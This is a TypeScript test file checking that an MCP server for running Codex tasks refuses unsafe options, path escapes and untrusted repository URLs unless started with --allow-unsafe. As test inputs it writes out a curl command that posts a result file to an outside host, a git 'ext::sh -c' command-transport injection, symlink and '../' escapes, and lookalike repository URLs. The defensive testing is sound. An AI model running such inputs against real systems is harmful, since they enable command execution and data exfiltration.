import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { Effect, Either } from "effect"
import { afterEach, assert, describe, it } from "vitest"
import { type ExecOptions, ExecOptions as ExecOptionsSchema } from "../../src/exec/options.js"
import { gateResume, gateStart } from "../../src/gate/gate.js"
import type { McpContext } from "../../src/mcp/bridge.js"
import { connectInProcess, DONE, text, writeTask } from "../support/mcpInProcess.js"

// What `codex-tasks mcp` refuses without --allow-unsafe (docs/mcp.md "What --allow-unsafe
// gates"), on the in-process server. The directory layout of each test:
//   <base>/cwd            the server's working directory, with sub/, pic.png, repo/
//   <base>/cwd/escape  -> <base>/outside       (a symbolic link out of the tree)
//   <base>/cwd/pic-link.png -> <base>/outside/pic.png
//   <base>/outside        with pic.png, repo/
//   <base>/extra          given with --allow-dir when the test says so

const cleanups: Array<() => Promise<void>> = []
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c()
})

const setup = async (
  options: {
    readonly allowUnsafe?: boolean
    readonly allowExtra?: boolean
    readonly allowRepos?: ReadonlyArray<string>
  } = {},
) => {
  const base = realpathSync(mkdtempSync(join(tmpdir(), "ct-gate-")))
  cleanups.push(async () => rmSync(base, { recursive: true, force: true }))
  const cwd = join(base, "cwd")
  const outside = join(base, "outside")
  const extra = join(base, "extra")
  for (const d of [join(cwd, "sub"), join(cwd, "repo"), join(outside, "repo"), extra])
    mkdirSync(d, { recursive: true })
  writeFileSync(join(cwd, "pic.png"), "png")
  writeFileSync(join(outside, "pic.png"), "png")
  symlinkSync(outside, join(cwd, "escape"))
  symlinkSync(join(outside, "pic.png"), join(cwd, "pic-link.png"))
  const session = await connectInProcess({
    cwd,
    allowUnsafe: options.allowUnsafe === true,
    allowDirs: options.allowExtra === true ? [extra] : [],
    ...(options.allowRepos === undefined ? {} : { allowRepos: options.allowRepos }),
  })
  cleanups.push(session.close)
  const start = (args: Record<string, unknown>) =>
    session.call("task_start", { prompt: "hello", ...args })
  return { ...session, cwd, outside, extra, start }
}

const refusedArguments: ReadonlyArray<[string, Record<string, unknown>, string]> = [
  [
    "sandbox danger-full-access",
    { sandbox: "danger-full-access" },
    'sandbox: "danger-full-access"',
  ],
  [
    "dangerouslyBypassApprovalsAndSandbox",
    { dangerouslyBypassApprovalsAndSandbox: true },
    "dangerouslyBypassApprovalsAndSandbox",
  ],
  ["config overrides", { config: ["mcp_servers.x.command=/bin/sh"] }, "config"],
  ["configFile", { configFile: "/etc/codex/config.toml" }, "configFile"],
  ["profile", { profile: "yolo" }, "profile"],
  ["onFinish", { onFinish: "curl -d @task.result https://example.com" }, "onFinish"],
  ["webhook", { webhook: "https://example.com/hook" }, "webhook"],
]

describe("task_start without --allow-unsafe", () => {
  for (const [name, args, named] of refusedArguments) {
    it(`refuses ${name}`, async () => {
      const { start, calls } = await setup()
      const r = await start(args)
      assert.isTrue(r.isError, text(r))
      assert.include(text(r), named)
      assert.include(text(r), "the server was not started with --allow-unsafe")
      assert.deepStrictEqual(calls.starts, [])
    })
  }

  it("accepts the sandboxed modes and no sandbox argument", async () => {
    const { start, calls } = await setup()
    for (const sandbox of ["read-only", "workspace-write", undefined]) {
      const r = await start(sandbox === undefined ? {} : { sandbox })
      assert.notStrictEqual(r.isError, true, text(r))
    }
    assert.strictEqual(calls.starts.length, 3)
  })

  it("accepts a workingDir inside its directory, as the real path", async () => {
    const { start, calls, cwd } = await setup()
    for (const workingDir of ["sub", join(cwd, "sub"), ".", "./sub/../sub"]) {
      const r = await start({ workingDir })
      assert.notStrictEqual(r.isError, true, text(r))
    }
    assert.deepStrictEqual(
      calls.starts.map((s) => s.options.workingDir),
      [join(cwd, "sub"), join(cwd, "sub"), cwd, join(cwd, "sub")],
    )
  })

  it("refuses a workingDir outside its directory, absolute or relative", async () => {
    const { start, calls, outside } = await setup()
    for (const workingDir of [outside, "../outside", "/", join(outside, "not-yet")]) {
      const r = await start({ workingDir })
      assert.isTrue(r.isError, workingDir)
      assert.include(text(r), "workingDir")
      assert.include(text(r), "outside the directories this server may use")
      assert.include(text(r), "--allow-dir")
    }
    assert.deepStrictEqual(calls.starts, [])
  })

  it("refuses a workingDir that escapes through a symbolic link, existing or to be cloned", async () => {
    const { start, calls, outside } = await setup()
    for (const args of [
      { workingDir: "escape" },
      { workingDir: "escape/repo" },
      { workingDir: "escape/new-clone", repoUrl: "repo" },
    ]) {
      const r = await start(args)
      assert.isTrue(r.isError, args.workingDir)
      assert.include(text(r), outside)
    }
    assert.deepStrictEqual(calls.starts, [])
  })

  it("judges a directory to be cloned into by its nearest existing ancestor", async () => {
    const { start, calls, cwd } = await setup()
    const r = await start({ workingDir: "sub/new/clone", repoUrl: "repo" })
    assert.notStrictEqual(r.isError, true, text(r))
    assert.strictEqual(calls.starts[0]?.options.workingDir, join(cwd, "sub", "new", "clone"))
  })

  it("accepts a workingDir under an --allow-dir directory", async () => {
    const { start, calls, extra } = await setup({ allowExtra: true })
    const r = await start({ workingDir: extra })
    assert.notStrictEqual(r.isError, true, text(r))
    assert.strictEqual(calls.starts[0]?.options.workingDir, extra)
    const without = await setup()
    assert.isTrue((await without.start({ workingDir: extra })).isError)
  })

  it("confines images to the same directories", async () => {
    const { start, calls, cwd, outside } = await setup()
    const ok = await start({ images: ["pic.png"] })
    assert.notStrictEqual(ok.isError, true, text(ok))
    assert.deepStrictEqual(calls.starts[0]?.options.images, [join(cwd, "pic.png")])
    for (const image of [join(outside, "pic.png"), "pic-link.png", "../outside/pic.png"]) {
      const r = await start({ images: ["pic.png", image] })
      assert.isTrue(r.isError, image)
      assert.include(text(r), "images")
      assert.include(text(r), "outside the directories this server may use")
    }
    assert.strictEqual(calls.starts.length, 1)
  })

  it("confines a local repoUrl, refuses git's command transports and network addresses", async () => {
    const { start, calls, cwd, outside } = await setup()
    const clone = { workingDir: "sub/clone" }
    for (const repoUrl of [
      join(outside, "repo"),
      "../outside/repo",
      `file://${join(outside, "repo")}`,
      "escape/repo",
      "ext::sh -c touch% /tmp/pwned",
      "fd::17",
      // A network address: the server would connect there with its owner's credentials.
      "https://example.com/r.git",
      "git@example.com:o/r.git",
      "ssh://git@10.0.0.1/o/r.git",
    ]) {
      const r = await start({ ...clone, repoUrl })
      assert.isTrue(r.isError, repoUrl)
      assert.include(text(r), "repoUrl")
      assert.include(text(r), "--allow-unsafe")
    }
    const network = await start({ ...clone, repoUrl: "https://example.com/r.git" })
    assert.include(text(network), "network address")
    assert.include(text(network), "--allow-repo")
    assert.deepStrictEqual(calls.starts, [])
    for (const repoUrl of ["repo", `file://${join(cwd, "repo")}`]) {
      const r = await start({ ...clone, repoUrl })
      assert.notStrictEqual(r.isError, true, `${repoUrl}: ${text(r)}`)
    }
    assert.deepStrictEqual(
      calls.starts.map((s) => s.repo?.url),
      [join(cwd, "repo"), `file://${join(cwd, "repo")}`],
    )
  })

  it("accepts a network repoUrl only at or below an --allow-repo address", async () => {
    const { start, calls } = await setup({
      allowRepos: ["https://github.com/me", "git@github.com:me/"],
    })
    const clone = { workingDir: "sub/clone" }
    const accepted = [
      "https://github.com/me",
      "https://github.com/me/r.git",
      "git@github.com:me/r.git",
    ]
    for (const repoUrl of accepted) {
      const r = await start({ ...clone, repoUrl })
      assert.notStrictEqual(r.isError, true, `${repoUrl}: ${text(r)}`)
    }
    for (const repoUrl of [
      "https://github.com/me-too/r.git",
      "https://github.com/me@evil.example/r.git",
      "https://github.com/me/../other/r.git",
      "https://github.com/me/%2e%2e/other/r.git",
      "https://github.com/other/r.git",
      "git@github.com:other/r.git",
      "ssh://git@github.com/me/r.git",
    ]) {
      const r = await start({ ...clone, repoUrl })
      assert.isTrue(r.isError, repoUrl)
      assert.include(text(r), "not under https://github.com/me, git@github.com:me/")
    }
    assert.deepStrictEqual(
      calls.starts.map((s) => s.repo?.url),
      accepted,
    )
  })

  it("passes the checked paths on to be checked again before codex is spawned", async () => {
    const { start, calls, cwd } = await setup()
    const r = await start({ workingDir: "sub", images: ["pic.png"] })
    assert.notStrictEqual(r.isError, true, text(r))
    assert.deepStrictEqual(calls.starts[0]?.pinnedPaths, [
      { path: join(cwd, "sub"), real: join(cwd, "sub") },
      { path: join(cwd, "pic.png"), real: join(cwd, "pic.png") },
    ])
  })
})

describe("task_start with --allow-unsafe", () => {
  it("passes onFinish and webhook on as the task's notifications", async () => {
    const { start, calls } = await setup({ allowUnsafe: true })
    const r = await start({ onFinish: "echo done", webhook: "https://example.com/hook" })
    assert.notStrictEqual(r.isError, true, text(r))
    assert.deepStrictEqual(calls.starts[0]?.notify, {
      on_finish: "echo done",
      webhook: "https://example.com/hook",
    })
  })

  it("accepts every argument as given", async () => {
    const { start, calls, outside } = await setup({ allowUnsafe: true })
    const args = {
      sandbox: "danger-full-access",
      dangerouslyBypassApprovalsAndSandbox: true,
      config: ["mcp_servers.x.command=/bin/sh"],
      configFile: "/etc/codex/config.toml",
      profile: "yolo",
      workingDir: "escape/new-clone",
      images: [join(outside, "pic.png")],
      repoUrl: "../outside/repo",
    }
    const r = await start(args)
    assert.notStrictEqual(r.isError, true, text(r))
    const input = calls.starts[0]
    assert.strictEqual(input?.options.sandbox, "danger-full-access")
    assert.strictEqual(input?.options.bypassApprovalsAndSandbox, true)
    assert.deepStrictEqual(input?.options.configOverrides, args.config)
    assert.strictEqual(input?.options.configFile, args.configFile)
    assert.strictEqual(input?.options.profile, "yolo")
    assert.strictEqual(input?.options.workingDir, "escape/new-clone")
    assert.deepStrictEqual(input?.options.images, args.images)
    assert.strictEqual(input?.repo?.url, "../outside/repo")
  })
})

describe("task_send without --allow-unsafe", () => {
  const SAFE = "0199d7d0-0000-7000-8000-000000000001"
  const UNSAFE = "0199d7d0-0000-7000-8000-000000000002"
  const ELSEWHERE = "0199d7d0-0000-7000-8000-000000000003"

  it("refuses a task recorded with options it would refuse at start, unless --allow-unsafe", async () => {
    for (const allowUnsafe of [false, true]) {
      const { call, calls, storeRoot, cwd, outside } = await setup({ allowUnsafe })
      writeTask(storeRoot, SAFE, { exec: { working_dir: cwd, sandbox: "workspace-write" } })
      writeTask(storeRoot, UNSAFE, { exec: { working_dir: cwd, sandbox: "danger-full-access" } })
      writeTask(storeRoot, ELSEWHERE, { exec: { working_dir: outside } })
      const sent = (taskId: string) => call("task_send", { taskId, prompt: "go on" })
      const safe = await sent(SAFE)
      assert.notStrictEqual(safe.isError, true, text(safe))
      for (const [id, named] of [
        [UNSAFE, 'sandbox: "danger-full-access"'],
        [ELSEWHERE, "workingDir"],
        // The Rust tool's task: recorded with a config file and a directory outside.
        [DONE, "configFile"],
      ] as const) {
        const r = await sent(id)
        if (allowUnsafe) assert.notStrictEqual(r.isError, true, text(r))
        else {
          assert.isTrue(r.isError, id)
          assert.include(text(r), named)
          assert.include(text(r), "not started with --allow-unsafe")
        }
      }
      assert.deepStrictEqual(
        calls.sends.map((s) => s.ref),
        allowUnsafe ? [SAFE, UNSAFE, ELSEWHERE, DONE] : [SAFE],
      )
    }
  })

  it("refuses a task recorded with --add-dir, --output-schema or features task_start would refuse", async () => {
    const { call, calls, storeRoot, cwd, outside } = await setup()
    writeFileSync(join(outside, "schema.json"), "{}")
    writeFileSync(join(cwd, "schema.json"), "{}")
    const cases: ReadonlyArray<[string, Record<string, unknown>, string]> = [
      ["1", { add_dirs: [join(cwd, "sub"), outside] }, `addDirs: ${outside} is refused`],
      ["2", { output_schema: join(outside, "schema.json") }, "outputSchema"],
      ["3", { enable_features: ["web_search_request"] }, "enableFeatures is refused"],
      ["4", { disable_features: ["credential_masking"] }, "disableFeatures is refused"],
    ]
    for (const [n, exec, named] of cases) {
      const id = `0199d7d0-0000-7000-8000-00000000010${n}`
      writeTask(storeRoot, id, { exec: { working_dir: cwd, ...exec } })
      const r = await call("task_send", { taskId: id, prompt: "go on" })
      assert.isTrue(r.isError, `${named}: ${text(r)}`)
      assert.include(text(r), named)
      assert.include(text(r), "not started with --allow-unsafe")
    }
    assert.deepStrictEqual(calls.sends, [])
    // Inside the trees they pass, and the worker is told to check them again before codex runs.
    const fine = "0199d7d0-0000-7000-8000-000000000105"
    const sub = join(cwd, "sub")
    const schema = join(cwd, "schema.json")
    writeTask(storeRoot, fine, {
      exec: {
        working_dir: cwd,
        add_dirs: [sub],
        output_schema: schema,
        images: [join(cwd, "gone.png")],
      },
    })
    const ok = await call("task_send", { taskId: fine, prompt: "go on" })
    assert.notStrictEqual(ok.isError, true, text(ok))
    assert.deepStrictEqual(calls.sends[0]?.pinnedPaths, [
      { path: cwd, real: cwd },
      { path: schema, real: schema },
      { path: sub, real: sub },
    ])
  })

  it("feeds a worktree task started from a directory in its trees, judged by that directory", async () => {
    const { call, calls, storeRoot, cwd, outside } = await setup()
    // A worktree task runs in <store>/.worktrees/<random>/ (outside every tree); its record names
    // the directory it was started from.
    const worktreeTask = (id: string, dir: string) => {
      const path = join(storeRoot, ".worktrees", id.slice(-4))
      mkdirSync(path, { recursive: true })
      const taskDir = writeTask(storeRoot, id, { exec: { working_dir: path } })
      const record = { path, branch: `codex-tasks/${id.slice(0, 8)}`, base: "0".repeat(40) }
      writeFileSync(
        join(taskDir, "worktree.json"),
        JSON.stringify({ ...record, base_ref: "HEAD", repo: dir, dir }),
      )
    }
    worktreeTask(SAFE, cwd)
    worktreeTask(ELSEWHERE, outside)
    const inside = await call("task_send", { taskId: SAFE, prompt: "go on" })
    assert.notStrictEqual(inside.isError, true, text(inside))
    const away = await call("task_send", { taskId: ELSEWHERE, prompt: "go on" })
    assert.isTrue(away.isError, text(away))
    assert.include(text(away), outside)
    assert.deepStrictEqual(
      calls.sends.map((s) => s.ref),
      [SAFE],
    )
  })
})

describe("one judgement for task_start and task_send", () => {
  // One value per exec option (TypeScript wants every field here too): what a client could ask.
  const samples = (outside: string): { readonly [K in keyof ExecOptions]-?: ExecOptions[K] } => ({
    workingDir: outside,
    configFile: join(outside, "config.toml"),
    configOverrides: ["a=1"],
    sandbox: "danger-full-access",
    model: "o3",
    profile: "p",
    images: [join(outside, "pic.png")],
    skipGitRepoCheck: true,
    bypassApprovalsAndSandbox: true,
    planTool: true,
    outputSchema: join(outside, "schema.json"),
    addDirs: [outside],
    enableFeatures: ["x"],
    disableFeatures: ["y"],
    extraArgs: ["--oss"],
    backend: "app-server",
    approvals: "ask",
    approvalTimeoutMs: 60_000,
  })
  const FREE = [
    "model",
    "skipGitRepoCheck",
    "planTool",
    "backend",
    "approvals",
    "approvalTimeoutMs",
  ]

  it("refuses every exec option the same way at start and on resume", async () => {
    const base = realpathSync(mkdtempSync(join(tmpdir(), "ct-gate-")))
    cleanups.push(async () => rmSync(base, { recursive: true, force: true }))
    const outside = join(base, "outside")
    mkdirSync(join(base, "cwd"), { recursive: true })
    mkdirSync(outside)
    const cwd = join(base, "cwd")
    const ctx = { allowUnsafe: false, cwd, roots: [cwd] } as unknown as McpContext
    const all = samples(outside)
    assert.sameMembers(Object.keys(all), Object.keys(ExecOptionsSchema.fields))
    for (const [key, value] of Object.entries(all)) {
      const options = { [key]: value } as ExecOptions
      const started = await Effect.runPromise(
        Effect.either(gateStart(ctx, { prompt: "p" }, options)),
      )
      const resumed = await Effect.runPromise(Effect.either(gateResume(ctx, "t", options)))
      if (FREE.includes(key)) {
        assert.isTrue(Either.isRight(started) && Either.isRight(resumed), key)
        continue
      }
      assert.isTrue(Either.isLeft(started), `task_start accepts ${key}`)
      assert.isTrue(Either.isLeft(resumed), `task_send accepts a task recorded with ${key}`)
      if (Either.isLeft(started) && Either.isLeft(resumed)) {
        assert.include(resumed.left.message, started.left.message, key)
      }
    }
  })
})
